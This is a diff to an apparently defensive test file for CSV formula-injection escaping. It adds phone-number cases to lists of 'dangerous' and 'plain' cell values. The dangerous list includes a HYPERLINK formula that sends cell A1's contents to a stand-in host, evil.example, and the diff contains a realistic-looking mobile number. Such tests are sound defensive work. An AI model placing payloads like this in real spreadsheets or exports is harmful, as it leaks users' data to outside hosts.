@@ -16,13 +16,29 @@ const dangerous = [
   '＝1+1',
   '＋1',
   '－1',
+  '+86-139',
+  '+8613928477550',
   '＠x',
   '  =1+1',
   '\u00A0=1+1',
   '\uFEFF=1',
   `=HYPERLINK("http://evil.example?x="&A1,"Click")`,
 ];
-const plain = ['', 'A=1', '1+1', "'quoted", 'a,b', 'say "hi"', 'two\r\nlines', 'two\nlines', ' ', '客户', '😀', '&<>"'];
+const plain = [
+  '',
+  'A=1',
+  '+86 139 2847 7550',
+  '1+1',
+  "'quoted",
+  'a,b',
+  'say "hi"',
+  'two\r\nlines',
+  'two\nlines',
+  ' ',
+  '客户',
+  '😀',
+  '&<>"',
+];
 
 const batches = async function* (cells: readonly string[]) {
   yield cells.map((cell) => [cell, 'next']);
